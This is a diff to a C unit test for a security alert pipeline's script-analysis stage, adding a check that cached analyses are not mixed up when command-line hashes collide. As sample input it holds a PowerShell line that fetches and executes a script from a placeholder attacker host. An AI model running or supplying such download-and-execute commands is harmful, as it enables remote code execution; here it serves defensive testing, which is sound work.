@@ -3,7 +3,7 @@
  * alerts: an analysis too large for the stage's buffers is published
  * reduced ("truncated": true, verdict, behaviours and indicators kept),
  * never dropped; the analysis cache never answers one command line with
- * another's analysis.
+ * another's analysis, even when their hashes collide.
  */
 #include "t.h"
 
@@ -16,6 +16,7 @@
 #include "metrics.h"
 #include "normalize.h"
 #include "script.h"
+#include "scripts_int.h"
 #include "stage.h"
 
 extern const struct sp_stage_type sp_stage_scripts;
@@ -328,10 +329,53 @@ static void test_full_section(void)
     rig_close(&r);
 }
 
+/* A slot filled with one command line's analysis, under the hash and
+ * length of another (a collision of the cache's 64-bit hash): the other
+ * is not answered from it.  And through the stage, with a one-slot cache,
+ * command lines of one length each get their own analysis. */
+static void test_cache_collision(void)
+{
+    const char *benign = "powershell -c Write-Output 'hello world 1234567'";
+    const char *evil = "powershell -c IEX(iwr http://evil.example/x.ps1)";
+    T_EQ_INT(strlen(benign), strlen(evil));
+    char json[] = "\"risk\":0";
+    char *copy = strdup(benign);
+    struct cache_slot slot = {0};
+    slot.hash = scripts_hash(evil, strlen(evil));  /* forced collision */
+    slot.cmd_len = strlen(benign);
+    slot.cmd = copy;
+    slot.json = json;
+    slot.json_len = strlen(json);
+    T_OK(!scripts_slot_holds(&slot, slot.hash, evil, strlen(evil)));
+    slot.hash = scripts_hash(benign, strlen(benign));
+    T_OK(scripts_slot_holds(&slot, slot.hash, benign, strlen(benign)));
+    free(copy);
+
+    struct rig r;
+    if (!rig_open(&r, "scripts:\n  cache_entries: 1\n"))
+        return;
+    for (int round = 0; round < 2; round++) {
+        const char *one[] = {round ? evil : benign};
+        json_t *sec = run_alert(&r, one, 1);
+        json_t *a0 = json_array_get(sec, 0);
+        T_OK(a0 != NULL);
+        const char *dec = json_string_value(json_object_get(a0, "decoded"));
+        T_OK(dec && strstr(dec, round ? "evil.example" : "hello world"));
+        json_decref(sec);
+    }
+    /* The same command line again: answered from the cache. */
+    const char *again[] = {evil};
+    json_decref(run_alert(&r, again, 1));
+    T_EQ_INT(sp_counter_get(sp_metrics_counter(
+                 r.metrics, "scripts_cache_hits_total", "", NULL)), 1);
+    rig_close(&r);
+}
+
 int main(void)
 {
     t_prog = "test_scripts_stage";
     T_RUN(test_oversized_analysis);
     T_RUN(test_full_section);
+    T_RUN(test_cache_collision);
     return t_done();
 }
